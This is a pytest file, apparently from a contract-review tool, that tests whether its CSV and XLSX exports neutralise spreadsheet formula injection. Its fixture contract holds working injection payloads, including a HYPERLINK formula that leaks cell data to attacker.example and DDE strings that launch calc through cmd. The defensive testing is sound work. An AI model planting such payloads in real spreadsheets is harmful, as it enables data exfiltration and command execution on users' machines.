"""A hostile contract through every spreadsheet format: no cell may start a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from ito_desktop.cli.main import main
from ito_desktop.core.library.schema import Library
from ito_desktop.core.review import ReviewResult, review
from ito_desktop.core.session import ReviewSession
from ito_desktop.export.base import ExportOptions
from ito_desktop.export.csv_export import CsvExporter
from ito_desktop.export.rows import issue_rows
from ito_desktop.export.xlsx_export import XlsxExporter

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Every clause body starts with a formula trigger; the wording still reads as the clause. The
# reader turns the tab into plain space, so the reviewer's name brings the tab in instead.
HOSTILE = "\n\n".join([
    "MASTER SERVICES AGREEMENT",
    "1. Governing Law",
    '=HYPERLINK("http://attacker.example/x?"&A1,"This Agreement is governed by the laws of '
    'England and Wales.")',
    "2. Payment",
    "+cmd|' /C calc'!A0 The Customer shall pay each invoice within fifteen (15) days of the "
    "invoice date.",
    "3. Confidentiality",
    "-2+3 Each party shall keep the other party's Confidential Information confidential and "
    "shall not disclose it to any third party.",
    "4. Assignment",
    "@SUM(1+1)*cmd|' /C calc'!A0 Neither party may assign this Agreement without the prior "
    "written consent of the other party.",
    "5. Audit",
    "\tCustomer may audit the Supplier's books and records on reasonable notice.",
]) + "\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "=HYPERLINK(1).txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_result(hostile: Path, library: Library) -> ReviewResult:
    return review(hostile, library)


@pytest.fixture
def hostile_session(hostile_result: ReviewResult) -> ReviewSession:
    session = ReviewSession(hostile_result.document.path, hostile_result.document.sha256,
                            reviewer="\t=reviewer")
    session.set_note("governing_law", "=1+1")
    session.set_note("assignment", "-cmd")
    return session


def _assert_safe(values: list[object]) -> None:
    texts = [value for value in values if isinstance(value, str)]
    assert texts
    bad = [text for text in texts if text.startswith(TRIGGERS) or text.lstrip(" ").startswith(
        TRIGGERS)]
    assert bad == []


def test_the_contract_really_is_hostile(
    hostile_result: ReviewResult, hostile_session: ReviewSession
) -> None:
    """Without the guard, cells would start with every trigger."""
    options = ExportOptions()
    cells = [str(value) for row in issue_rows(hostile_result, hostile_session, options)
             for value in row.cells()]
    cells.append(options.reviewer_name(hostile_session))  # on the summary sheet
    starts = {text[0] for text in cells if text}
    assert {"=", "+", "-", "@", "\t"} <= starts


def test_csv_is_safe(
    hostile_result: ReviewResult, hostile_session: ReviewSession, tmp_path: Path
) -> None:
    out = tmp_path / "issues.csv"
    CsvExporter().write(hostile_result, hostile_session, ExportOptions(), out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    _assert_safe([cell for row in rows for cell in row])
    assert any(cell.startswith("'=HYPERLINK(") for row in rows for cell in row)


def test_xlsx_is_safe(
    hostile_result: ReviewResult, hostile_session: ReviewSession, tmp_path: Path
) -> None:
    out = tmp_path / "issues.xlsx"
    XlsxExporter().write(hostile_result, hostile_session, ExportOptions(), out)
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type in ("s", "n") for cell in cells)  # never "f" (formula)
        _assert_safe([cell.value for cell in cells])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_batch_is_safe(hostile: Path, tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"portfolio{suffix}"
    args = ["batch", str(hostile.parent), "-o", str(out), "--jobs", "1", "--no-user-library"]
    assert main(args) == 0
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
        values: list[object] = [cell for row in rows for cell in row]
        assert rows[1][0] == "'=HYPERLINK(1).txt"
    else:
        book = openpyxl.load_workbook(out)
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                 if cell.value is not None]
        assert all(cell.data_type in ("s", "n") for cell in cells)
        values = [cell.value for cell in cells]
        assert book["Portfolio"]["A2"].value == "'=HYPERLINK(1).txt"
    _assert_safe(values)
